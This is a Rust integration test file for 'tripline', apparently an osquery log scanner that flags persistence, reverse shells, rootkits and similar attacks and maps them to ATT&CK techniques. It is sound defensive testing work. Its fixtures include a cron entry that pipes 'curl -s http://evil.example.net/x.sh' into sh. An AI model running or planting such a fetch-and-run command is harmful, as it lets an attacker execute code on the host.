//! `tripline scan`, `rules` and `coverage` as a user runs them: the real binary over the
//! bundled sample attack logs in `events/osquery/`.

use std::collections::HashMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn tripline(args: &[&str]) -> Output {
    tripline_stdin(args, None)
}

fn tripline_stdin(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_tripline"))
        .args(args)
        .current_dir(repo())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("run tripline");
    let mut pipe = child.stdin.take().expect("stdin");
    pipe.write_all(stdin.unwrap_or_default())
        .expect("write stdin");
    drop(pipe);
    child.wait_with_output().expect("wait")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn alerts(out: &Output) -> Vec<Value> {
    text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// `key=value` numbers of the `tripline scan:` summary line.
fn summary(out: &Output) -> HashMap<String, u64> {
    let err = text(&out.stderr);
    let line = err
        .lines()
        .find(|l| l.starts_with("tripline scan: records="))
        .unwrap_or_else(|| panic!("no summary in {err}"));
    line.split_whitespace()
        .filter_map(|kv| kv.split_once('='))
        .filter_map(|(k, v)| Some((k.to_string(), v.parse().ok()?)))
        .collect()
}

fn find<'a>(alerts: &'a [Value], rule: &str, host: &str) -> &'a Value {
    alerts
        .iter()
        .find(|a| a["rule"]["name"] == rule && a["hosts"][0] == host)
        .unwrap_or_else(|| {
            let fired: Vec<String> = alerts
                .iter()
                .map(|a| format!("{}@{}", a["rule"]["name"], a["hosts"][0]))
                .collect();
            panic!("no {rule} alert on {host}; fired: {fired:?}")
        })
}

fn technique_ids(alert: &Value) -> Vec<String> {
    alert["attack"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|t| t["id"].as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

const LINUX: &str = "events/osquery/attack-linux.ndjson";
const MACOS: &str = "events/osquery/attack-macos.ndjson";

#[test]
fn linux_attack_story_fires_with_attack_ids() {
    let out = tripline(&["scan", LINUX, "--format", "ndjson"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let alerts = alerts(&out);
    for (rule, host, technique, severity) in [
        (
            "osquery_suspicious_cron",
            "web-01.prod.acme.io",
            "T1053.003",
            "high",
        ),
        (
            "osquery_reverse_shell",
            "web-01.prod.acme.io",
            "T1059.004",
            "high",
        ),
        (
            "osquery_authorized_keys_added",
            "web-01.prod.acme.io",
            "T1098.004",
            "medium",
        ),
        (
            "osquery_new_admin_user",
            "db-01.prod.acme.io",
            "T1136.001",
            "high",
        ),
        (
            "osquery_sudoers_modified",
            "db-01.prod.acme.io",
            "T1548.003",
            "medium",
        ),
        (
            "osquery_kernel_module_loaded",
            "web-03.prod.acme.io",
            "T1547.006",
            "medium",
        ),
        (
            "osquery_xz_backdoor",
            "build-02.ci.acme.io",
            "T1195.002",
            "critical",
        ),
        (
            "osquery_aws_cli_in_shell_history",
            "bastion-01.prod.acme.io",
            "T1059.009",
            "medium",
        ),
        // Derived from min_osquery_version: 5.10.2 is below the default 5.12.1.
        (
            "osquery_outdated_agent",
            "db-01.prod.acme.io",
            "T1562.001",
            "low",
        ),
    ] {
        let a = find(&alerts, rule, host);
        assert!(
            technique_ids(a).contains(&technique.to_string()),
            "{rule}: {:?}",
            technique_ids(a)
        );
        assert_eq!(a["severity"], severity, "{rule}");
        assert_eq!(
            a["attack"][0]["id"], technique,
            "rule techniques come first"
        );
        assert!(a["attack"][0]["url"]
            .as_str()
            .is_some_and(|u| u.starts_with("https://attack.mitre.org/techniques/")));
        assert!(a["id"].as_str().is_some_and(|id| id.len() == 16));
        assert!(!a["samples"].as_array().unwrap().is_empty());
        assert!(a["samples"][0]["derived"].is_object());
    }
    let cron = find(&alerts, "osquery_suspicious_cron", "web-01.prod.acme.io");
    assert!(cron["title"].as_str().unwrap().contains("curl"));
    assert_eq!(cron["dedup"]["window"], "24h");
    // No office networks configured: logins are not judged.
    assert!(!alerts
        .iter()
        .any(|a| a["rule"]["name"] == "osquery_login_from_unknown_network"));
    let s = summary(&out);
    assert_eq!(s["alerts"], alerts.len() as u64);
    assert_eq!(s["rule_errors"], 0);
    assert_eq!(s["quarantined"], 0);
}

#[test]
fn macos_attack_story_fires_with_attack_ids() {
    let out = tripline(&["scan", MACOS, "--format", "ndjson"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let alerts = alerts(&out);
    for (rule, host, technique) in [
        (
            "osquery_launchd_persistence",
            "mbp-kchen.corp.acme.io",
            "T1543.001",
        ),
        (
            "osquery_keyboard_event_tap",
            "mbp-kchen.corp.acme.io",
            "T1056.001",
        ),
        (
            "osquery_gatekeeper_disabled",
            "mbp-kchen.corp.acme.io",
            "T1553.001",
        ),
        ("osquery_osx_attacks", "mbp-kchen.corp.acme.io", "T1543.001"),
        (
            "osquery_unwanted_chrome_extension",
            "mbp-jdoe.corp.acme.io",
            "T1176.001",
        ),
        (
            "osquery_macos_firewall_disabled",
            "mbp-jdoe.corp.acme.io",
            "T1562.004",
        ),
        // Derived from min_macos_version: 13.6.9 is below the default 14.0.
        (
            "osquery_unsupported_macos",
            "imac-lab-2.corp.acme.io",
            "T1068",
        ),
    ] {
        let a = find(&alerts, rule, host);
        assert!(
            technique_ids(a).contains(&technique.to_string()),
            "{rule}: {:?}",
            technique_ids(a)
        );
    }
}

const RENAMED: &str = "events/osquery/renamed-fleet.ndjson";

/// What `renamed-fleet.ndjson` must alert on, exactly: (rule, host, alerts). Its queries have
/// invented names (Fleet display names, private `pack_<pack>_<query>` packs, bare schedule
/// names), except osquery's own `pack_incident-response_suid_bin` and the Fleet ATT&CK
/// article's `pack/Global/ATT&CK® - Process_Network_Conn`, so the rules only see the attacks
/// through the tables their rows' columns come from. Every other row is benign.
const RENAMED_EXPECTED: &[(&str, &str, usize)] = &[
    // bash connecting out by itself (audit socket_events)
    ("osquery_reverse_shell", "web-12.prod.acme.io", 1),
    // `curl -s http://evil.example.net/x.sh | sh` in www-data's crontab (Fleet)
    ("osquery_suspicious_cron", "api-07.prod.acme.io", 1),
    // a key added to root's authorized_keys
    (
        "osquery_authorized_keys_added",
        "bastion-02.prod.acme.io",
        1,
    ),
    // a setuid copy of bash in /dev/shm (a file listing of the temporary directories)
    ("osquery_suid_binary_in_tmp", "k8s-node-04.prod.acme.io", 1),
    // xz-utils, liblzma5 and liblzma-dev 5.6.1-1
    ("osquery_xz_backdoor", "build-05.ci.acme.io", 3),
    // a second uid-0 account
    ("osquery_new_admin_user", "db-03.prod.acme.io", 1),
    // LD_PRELOAD of an unknown library in a process environment
    ("osquery_ld_preload", "k8s-node-04.prod.acme.io", 1),
    // the diamorphine rootkit module loaded
    (
        "osquery_kernel_module_loaded",
        "k8s-node-04.prod.acme.io",
        1,
    ),
    // `aws` in root's shell history
    (
        "osquery_aws_cli_in_shell_history",
        "bastion-02.prod.acme.io",
        1,
    ),
    // a LaunchAgent that pipes curl into sh (Fleet, macOS)
    ("osquery_launchd_persistence", "mbp-spatel.corp.acme.io", 1),
    // Gatekeeper assessments turned off (Fleet, macOS)
    ("osquery_gatekeeper_disabled", "mbp-okim.corp.acme.io", 1),
    // osquery's incident-response suid_bin query, under its public name: a setuid file in /var/tmp
    ("osquery_suid_binary_in_tmp", "db-03.prod.acme.io", 1),
    // the article's Process_Network_Conn (Fleet, default decorations): bash with a remote socket
    ("osquery_reverse_shell", "ingest-03.prod.acme.io", 1),
];

#[test]
fn renamed_fleet_fires_each_expected_rule_on_its_host_and_nothing_else() {
    let out = tripline(&["scan", RENAMED, "--format", "ndjson"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let alerts = alerts(&out);
    let mut fired: HashMap<(String, String), usize> = HashMap::new();
    for a in &alerts {
        let rule = a["rule"]["name"].as_str().unwrap().to_string();
        for host in a["hosts"].as_array().unwrap() {
            *fired
                .entry((rule.clone(), host.as_str().unwrap().to_string()))
                .or_default() += 1;
        }
    }
    let expected = |rule: &str, host: &str| {
        RENAMED_EXPECTED
            .iter()
            .any(|&(r, h, _)| r == rule && h == host)
    };
    for &(rule, host, n) in RENAMED_EXPECTED {
        let got = fired
            .get(&(rule.to_string(), host.to_string()))
            .copied()
            .unwrap_or(0);
        assert_eq!(got, n, "{rule} on {host}; fired: {fired:?}");
    }
    // The benign rows (and the attacks' benign neighbours) fire nothing.
    for (rule, host) in fired.keys() {
        assert!(
            expected(rule, host),
            "unexpected {rule} on {host}; fired: {fired:?}"
        );
    }
    let s = summary(&out);
    assert_eq!(s["alerts"], alerts.len() as u64);
    assert_eq!(s["rule_errors"], 0);
    assert_eq!(s["quarantined"], 0);
}

/// The renamed fleet's rows are known by their columns, not by a query name the built-in
/// registry knows (except the two public queries it includes on purpose).
#[test]
fn renamed_fleet_rows_are_known_by_their_columns() {
    let out = tripline(&["parse", RENAMED]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let events = alerts(&out);
    assert!(events.len() > 80, "{}", events.len());
    for e in &events {
        let name = e["name"].as_str().unwrap();
        let from = e["tables_from"].as_str().unwrap_or("none");
        if name == "pack_incident-response_suid_bin" {
            assert_eq!(from, "sql", "{e}");
        } else {
            assert_eq!(from, "columns", "{name}: {e}");
        }
        assert!(!e["tables"].as_array().unwrap().is_empty(), "{name}: {e}");
    }
}

#[test]
fn config_turns_on_office_network_logins_and_versions() {
    let dir = std::env::temp_dir().join(format!("tripline-scan-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let config = dir.join("tripline.toml");
    std::fs::write(
        &config,
        "office_networks = [\"10.0.0.0/8\"]\nmin_osquery_version = \"5.0.0\"\n",
    )
    .unwrap();
    let out = tripline(&[
        "scan",
        LINUX,
        "--format",
        "ndjson",
        "--config",
        config.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let alerts = alerts(&out);
    let login = find(
        &alerts,
        "osquery_login_from_unknown_network",
        "bastion-01.prod.acme.io",
    );
    assert!(technique_ids(login).contains(&"T1078".to_string()));
    assert_eq!(
        login["samples"][0]["derived"]["remote_outside_office"],
        true
    );
    // 5.10.2 is fine against a 5.0.0 minimum.
    assert!(!alerts
        .iter()
        .any(|a| a["rule"]["name"] == "osquery_outdated_agent"));

    // A typo in the config is a usage error naming the key.
    std::fs::write(&config, "office_network = [\"10.0.0.0/8\"]\n").unwrap();
    let out = tripline(&["scan", LINUX, "--config", config.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        text(&out.stderr).contains("office_network"),
        "{}",
        text(&out.stderr)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_record_without_a_time_alerts_at_the_scan_time() {
    let record = r#"{"name":"pack_tripline-linux_crontab","hostIdentifier":"web-01","action":"added","columns":{"command":"curl -s http://evil.example.net/x.sh | sh","path":"/etc/crontab"}}"#;
    let now = || {
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64
    };
    let before = now();
    let out = tripline_stdin(
        &["scan", "-", "--format", "ndjson"],
        Some(record.as_bytes()),
    );
    let after = now();
    assert!(out.status.success(), "{}", text(&out.stderr));
    let s = summary(&out);
    assert_eq!(s["rule_errors"], 0);
    assert!(s["matches_on_scan_time"] >= 1, "{s:?}");
    let alerts = alerts(&out);
    let cron = find(&alerts, "osquery_suspicious_cron", "web-01");
    assert_eq!(cron["time_from"], "object");
    let first_seen = time::OffsetDateTime::parse(
        cron["first_seen"].as_str().unwrap(),
        &time::format_description::well_known::Rfc3339,
    )
    .unwrap()
    .unix_timestamp();
    assert!((before..=after).contains(&first_seen), "{cron}");
    // The URL in the command line is an indicator.
    assert_eq!(
        cron["samples"][0]["indicators"]["domain"],
        serde_json::json!(["evil.example.net"])
    );
}

#[test]
fn alert_ids_are_stable_across_runs_and_input_forms() {
    let ids = |out: &Output| {
        let mut v: Vec<String> = alerts(out)
            .iter()
            .map(|a| a["id"].as_str().unwrap().to_string())
            .collect();
        v.sort();
        v
    };
    let a = tripline(&["scan", LINUX, "--format", "ndjson"]);
    let b = tripline(&["scan", LINUX, "--format", "ndjson"]);
    assert_eq!(a.stdout, b.stdout, "same input, byte-identical output");
    let bytes = std::fs::read(repo().join(LINUX)).unwrap();
    let c = tripline_stdin(&["scan", "-", "--format", "ndjson"], Some(&bytes));
    assert_eq!(ids(&a), ids(&c));
    // gzip input gives the same alerts.
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&bytes).unwrap();
    let d = tripline_stdin(
        &["scan", "-", "--format", "ndjson"],
        Some(&gz.finish().unwrap()),
    );
    assert_eq!(ids(&a), ids(&d));
}

#[test]
fn fail_on_levels() {
    // Linux has a critical alert (xz backdoor), macOS tops out at high.
    let out = tripline(&["scan", LINUX, "--format", "ndjson", "--fail-on", "critical"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let out = tripline(&["scan", MACOS, "--format", "ndjson", "--fail-on", "critical"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let out = tripline(&["scan", MACOS, "--format", "ndjson", "--fail-on", "high"]);
    assert_eq!(out.status.code(), Some(1));
    let out = tripline(&["scan", MACOS, "--fail-on", "severe"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn usage_and_io_errors_exit_2() {
    let out = tripline(&["scan", "events/osquery/does-not-exist.log"]);
    assert_eq!(out.status.code(), Some(2));
    let out = tripline(&["scan", LINUX, "--rules", "does/not/exist"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("does/not/exist"));
}

#[test]
fn json_format_and_fired_layer() {
    let dir = std::env::temp_dir().join(format!("tripline-layer-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let layer_path = dir.join("fired.json");
    let out = tripline(&[
        "scan",
        LINUX,
        MACOS,
        "--format",
        "json",
        "--layer",
        layer_path.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let n = doc["alerts"].as_array().unwrap().len();
    assert!(n >= 20, "{n}");
    assert_eq!(doc["stats"]["alerts"], n as u64);
    assert_eq!(doc["decode"]["quarantined"], 0);

    let layer: Value =
        serde_json::from_str(&std::fs::read_to_string(&layer_path).unwrap()).unwrap();
    assert_eq!(layer["versions"]["layer"], "4.5");
    assert_eq!(layer["domain"], "enterprise-attack");
    let cron = layer["techniques"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["techniqueID"] == "T1053.003")
        .expect("T1053.003 in the fired layer");
    assert!(cron["score"].as_f64().unwrap() >= 1.0);
    assert!(cron["comment"]
        .as_str()
        .unwrap()
        .contains("osquery_suspicious_cron"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn table_format_lists_alerts() {
    let out = tripline(&["scan", LINUX, "--format", "table"]);
    assert!(out.status.success());
    let t = text(&out.stdout);
    assert!(t.starts_with("SEVERITY"), "{t}");
    assert!(t.contains("osquery_xz_backdoor"));
    // Most severe first.
    assert!(t.lines().nth(1).unwrap().starts_with("critical"), "{t}");
}

#[test]
fn builtin_rules_test_check_and_list() {
    let out = tripline(&["rules", "test"]);
    assert!(out.status.success(), "{}", text(&out.stdout));
    let t = text(&out.stdout);
    assert!(t.contains("PASS  osquery_suspicious_cron"), "{t}");
    assert!(t.contains(" 0 failed"), "{t}");

    let out = tripline(&["rules", "check"]);
    assert!(out.status.success(), "{}", text(&out.stderr));

    let out = tripline(&["rules", "list"]);
    assert!(out.status.success());
    let t = text(&out.stdout);
    assert!(
        t.contains("osquery_suspicious_cron") && t.contains("T1053.003"),
        "{t}"
    );

    let out = tripline(&["rules", "list", "--format", "json"]);
    let rows: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(rows.as_array().unwrap().len() >= 25);
}

#[test]
fn rules_dir_with_problems_fails_check_and_test() {
    let dir = std::env::temp_dir().join(format!("tripline-rules-test-{}", std::process::id()));
    let sigma = dir.join("sigma");
    let tests = dir.join("tests");
    std::fs::create_dir_all(&sigma).unwrap();
    std::fs::create_dir_all(&tests).unwrap();
    std::fs::write(
        sigma.join("my_rule.yml"),
        r#"title: My rule
id: 6f1c2b9e-0000-4000-8000-000000000001
name: my_rule
level: high
tags: [attack.t1053.003]
logsource: {product: osquery}
detection:
  sel:
    query: crontab
    columns.command|contains: evil
  condition: sel
tripline:
  title: "evil cron on {host}"
  dedup: [host]
  window: 1h
"#,
    )
    .unwrap();
    // Valid rule, but no test file: check passes, test fails.
    let out = tripline(&["rules", "check", "--rules", sigma.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let out = tripline(&["rules", "test", "--rules", sigma.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stdout).contains("no test file"),
        "{}",
        text(&out.stdout)
    );

    std::fs::write(
        tests.join("my_rule.yml"),
        "positive:\n  - query: crontab\n    columns: {command: evil}\nnegative:\n  - query: crontab\n    columns: {command: fine}\n",
    )
    .unwrap();
    let out = tripline(&["rules", "test", "--rules", sigma.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stdout));

    // A broken rule: check names the file and the field.
    std::fs::write(
        sigma.join("broken.yml"),
        "title: b\nid: nope\nname: broken\nlevel: low\nlogsource: {product: osquery}\n\
         detection:\n  sel:\n    query: x\n  condition: sel\n",
    )
    .unwrap();
    let out = tripline(&["rules", "check", "--rules", sigma.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let err = text(&out.stderr);
    assert!(
        err.contains("broken.yml") && err.contains("id") && err.contains("tripline"),
        "{err}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `rules check` warns about a rule that selects on a query name without a table (exit 0,
/// like every warning; 1 with `--strict`), and not once the rule selects on `tables`.
#[test]
fn rules_check_warns_about_query_names_without_tables() {
    let dir = std::env::temp_dir().join(format!("tripline-rules-names-{}", std::process::id()));
    let sigma = dir.join("sigma");
    std::fs::create_dir_all(&sigma).unwrap();
    let rule = |selection: &str| {
        format!(
            r#"title: Curl in cron
id: 6f1c2b9e-0000-4000-8000-000000000002
name: curl_cron
level: high
tags: [attack.t1053.003]
logsource: {{product: osquery, service: crontab}}
detection:
  sel:
    {selection}
    columns.command|contains: curl
  condition: sel
tripline:
  title: "curl in cron on {{host}}"
  dedup: [host]
  window: 1h
"#
        )
    };
    let file = sigma.join("curl_cron.yml");
    let warning = "rule curl_cron selects on a query name without a table: rows from that \
                   table under other query names will not match";

    std::fs::write(&file, rule("query: crontab")).unwrap();
    let out = tripline(&["rules", "check", "--rules", sigma.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let err = text(&out.stderr);
    assert!(
        err.contains("warning: ") && err.contains("curl_cron.yml") && err.contains(warning),
        "{err}"
    );
    assert!(
        text(&out.stdout).contains("1 warning(s)"),
        "{}",
        text(&out.stdout)
    );
    let out = tripline(&[
        "rules",
        "check",
        "--strict",
        "--rules",
        sigma.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));

    // The logged name is a query name too.
    std::fs::write(&file, rule("name|endswith: _crontab")).unwrap();
    let out = tripline(&["rules", "check", "--rules", sigma.to_str().unwrap()]);
    assert!(text(&out.stderr).contains(warning), "{}", text(&out.stderr));

    std::fs::write(&file, rule("tables: crontab")).unwrap();
    let out = tripline(&[
        "rules",
        "check",
        "--strict",
        "--rules",
        sigma.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert!(
        !text(&out.stderr).contains("query name"),
        "{}",
        text(&out.stderr)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn coverage_writes_layer_and_tactic_table() {
    let dir = std::env::temp_dir().join(format!("tripline-cov-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("coverage.json");
    let out = tripline(&["coverage", "--layer", path.to_str().unwrap()]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    assert!(
        t.contains("Persistence") && t.contains("Privilege Escalation"),
        "{t}"
    );
    let layer: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    let techniques = layer["techniques"].as_array().unwrap();
    assert!(techniques.iter().any(|t| t["techniqueID"] == "T1053.003"));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn coverage_counts_table_mappings() {
    let dir = std::env::temp_dir().join(format!("tripline-cov-tables-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let layer_of = |args: &[&str]| -> (String, Value) {
        let path = dir.join("layer.json");
        let mut all = vec!["coverage", "--layer", path.to_str().unwrap()];
        all.extend_from_slice(args);
        let out = tripline(&all);
        assert!(out.status.success(), "{}", text(&out.stderr));
        let layer = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        (text(&out.stdout), layer)
    };
    let technique = |layer: &Value, id: &str| -> Option<Value> {
        layer["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["techniqueID"] == id)
            .cloned()
    };

    // Built-in: interface_details (promiscuous interfaces) is the only source of T1040.
    let (out, layer) = layer_of(&[]);
    assert!(
        out.contains("query mappings and ") && out.contains("more map to no technique"),
        "{out}"
    );
    let sniffing = technique(&layer, "T1040").expect("T1040 covered by a table mapping");
    assert_eq!(
        sniffing["comment"],
        "covered by 1: table: interface_details"
    );
    assert!(
        layer["description"]
            .as_str()
            .unwrap()
            .contains("osquery tables"),
        "{}",
        layer["description"]
    );
    let cron = technique(&layer, "T1053.003").unwrap();
    let comment = cron["comment"].as_str().unwrap();
    assert!(
        comment.contains("rule osquery_suspicious_cron")
            && comment.contains("query: crontab")
            && comment.contains("table: crontab"),
        "{comment}"
    );

    // Rules only: no mappings of either kind.
    let (out, layer) = layer_of(&["--rules-only"]);
    assert!(!out.contains("tables"), "{out}");
    assert!(technique(&layer, "T1040").is_none());

    // A mappings directory of table entries alone.
    let mappings = dir.join("mappings");
    std::fs::create_dir_all(&mappings).unwrap();
    std::fs::write(
        mappings.join("tables.yml"),
        "mappings:\n  - table: crontab\n    techniques: [T1053.003]\n  - table: cpuid\n    techniques: []\n",
    )
    .unwrap();
    let (out, layer) = layer_of(&["--mappings", mappings.to_str().unwrap()]);
    assert!(
        out.contains("0 query mappings and 1 osquery tables (1 more map to no technique)"),
        "{out}"
    );
    let cron = technique(&layer, "T1053.003").unwrap();
    assert_eq!(
        cron["comment"],
        "covered by 2: rule osquery_suspicious_cron; table: crontab"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `coverage --queries`: a fleet's own queries, by their tables, against the built-in rules.
#[test]
fn coverage_of_a_fleets_own_queries() {
    let dir = std::env::temp_dir().join(format!("tripline-fleet-cov-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let fleet = dir.join("fleet.yml");
    std::fs::write(
        &fleet,
        "apiVersion: v1\nkind: query\nspec:\n  name: ATT&CK® - Process_Network_Conn\n  query: \
         SELECT DISTINCT p.name, p.path, p.cmdline, pos.pid, pos.remote_address, pos.remote_port \
         FROM process_open_sockets pos JOIN processes p USING (pid) WHERE pos.remote_port != 0\n\
         ---\napiVersion: v1\nkind: query\nspec:\n  name: Who is here\n  query: SELECT * FROM logged_in_users\n",
    )
    .unwrap();
    let layer = dir.join("fleet-layer.json");
    let out = tripline(&[
        "coverage",
        "--queries",
        fleet.to_str().unwrap(),
        "--layer",
        layer.to_str().unwrap(),
    ]);
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let row = |query: &str| {
        stdout
            .lines()
            .find(|l| l.starts_with(query))
            .unwrap_or_else(|| panic!("no row for {query} in {stdout}"))
            .to_string()
    };
    // The article's query reads process_open_sockets: the reverse-shell rule can fire on it,
    // and its techniques are there.
    let conns = row("ATT&CK® - Process_Network_Conn");
    assert!(conns.contains("process_open_sockets,processes"), "{conns}");
    assert!(
        conns.contains("osquery_reverse_shell") && conns.contains("T1059.004"),
        "{conns}"
    );
    assert!(row("Who is here").contains("logged_in_users"));
    // Rules no query feeds say what they need.
    assert!(
        stdout.contains("osquery_suspicious_cron needs a query on crontab"),
        "{stdout}"
    );
    let layer: serde_json::Value = serde_json::from_slice(&std::fs::read(&layer).unwrap()).unwrap();
    let ids: Vec<&str> = layer["techniques"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|t| t["techniqueID"].as_str())
        .collect();
    assert!(ids.contains(&"T1059.004"), "{ids:?}");
    assert!(
        !ids.contains(&"T1053.003"),
        "no cron query, no cron coverage: {ids:?}"
    );
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn scan_quarantines_objects_that_are_not_osquery_as_a_whole() {
    let dir = std::env::temp_dir().join(format!("tripline-scan-foreign-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let png = dir.join("image.png");
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.extend((0..40_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8));
    std::fs::write(&png, bytes).unwrap();
    let blob = dir.join("blob.gz");
    std::fs::write(&blob, b"\x1f\x8b not gzip").unwrap();
    let quarantine = dir.join("q.ndjson");
    let out = tripline(&[
        "scan",
        png.to_str().unwrap(),
        blob.to_str().unwrap(),
        "events/broken/truncated.gz",
        LINUX,
        "--format",
        "json",
        "--quarantine",
        quarantine.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let s = summary(&out);
    assert_eq!(s["objects_quarantined"], 3);
    let entries: Vec<Value> = std::fs::read_to_string(&quarantine)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        entries.len() as u64,
        s["quarantined"] + s["objects_quarantined"]
    );
    let objects: Vec<&str> = entries
        .iter()
        .filter(|e| e["source"]["record"] == 0)
        .map(|e| e["reason"].as_str().unwrap())
        .collect();
    assert_eq!(objects, ["not_osquery", "gzip_corrupt", "gzip_truncated"]);
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(doc["decode"]["objects_quarantined"], 3);
    assert_eq!(doc["decode"]["quarantined_as"], "not_osquery");
    // The good object's alerts are all still there.
    assert!(doc["alerts"].as_array().unwrap().len() >= 5);
    let _ = std::fs::remove_dir_all(&dir);
}

/// The example site directory: its rules and filters check and pass their tests, and
/// `scan --filters` suppresses what the filter names, counting it.
#[test]
fn site_rules_and_filters() {
    let site = [
        "--site-rules",
        "examples/site/rules",
        "--filters",
        "examples/site/filters",
    ];
    // The site adds one rule to the built-in ones, however many those are.
    let builtin = text(&tripline(&["rules", "check"]).stdout);
    let n: usize = builtin
        .strip_prefix("built-in rules: ")
        .and_then(|t| t.split_whitespace().next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{builtin}"));
    let out = tripline(&[&["rules", "check"][..], &site].concat());
    assert!(out.status.success(), "{}", text(&out.stderr));
    let t = text(&out.stdout);
    assert!(
        t.contains(&format!(
            "built-in rules + site rules examples/site/rules: {} rules OK",
            n + 1
        )),
        "{t}"
    );
    assert!(t.contains("examples/site/filters: 1 filters OK"), "{t}");

    let out = tripline(&[&["rules", "test"][..], &site].concat());
    let t = text(&out.stdout);
    assert!(out.status.success(), "{t}");
    assert!(t.contains("PASS  acme_unsanctioned_remote_desktop"), "{t}");
    assert!(
        t.contains("PASS  filter allow_keytap_productivity_apps  (3 suppress, 3 keep)"),
        "{t}"
    );
    assert!(t.contains("1 filters, 1 passed, 0 failed"), "{t}");

    // Disabling a rule drops it and its built-in tests; a typo is an error.
    let out = tripline(&["rules", "test", "--disable", "osquery_ssh_listener"]);
    let t = text(&out.stdout);
    assert!(out.status.success(), "{t}");
    assert!(!t.contains("osquery_ssh_listener"), "{t}");
    let out = tripline(&["rules", "check", "--disable", "osquery_ssh_listenr"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("cannot disable osquery_ssh_listenr"),
        "{}",
        text(&out.stderr)
    );

    // Two taps: the allowed app's is suppressed and counted, the other alerts.
    let row = |host: &str, path: &str| {
        format!(
            r#"{{"name":"pack/Global/keyboard_event_taps","hostIdentifier":"{host}","unixTime":1794816000,"action":"added","columns":{{"pid":"912","name":"x","path":"{path}","enabled":"1","event_tapped":"EventKeyDown","process_being_tapped":"0","tapping_process":"912"}}}}"#
        )
    };
    let input = format!(
        "{}\n{}\n",
        row(
            "mbp-1",
            "/Applications/BetterTouchTool.app/Contents/MacOS/BetterTouchTool"
        ),
        row("mbp-2", "/Users/jdoe/Downloads/kl")
    );
    let scan = |extra: &[&str]| {
        let args = [&["scan", "--format", "ndjson"][..], extra, &["-"]].concat();
        tripline_stdin(&args, Some(input.as_bytes()))
    };
    let out = scan(&["--filters", "examples/site/filters"]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let a = alerts(&out);
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0]["hosts"][0], "mbp-2");
    let s = summary(&out);
    assert_eq!((s["matches"], s["suppressed_by_filter"]), (1, 1));
    assert!(text(&out.stderr)
        .contains("tripline scan: filter allow_keytap_productivity_apps: suppressed 1 match(es)"));
    let out = scan(&[]);
    assert_eq!(alerts(&out).len(), 2);
    assert_eq!(summary(&out)["suppressed_by_filter"], 0);

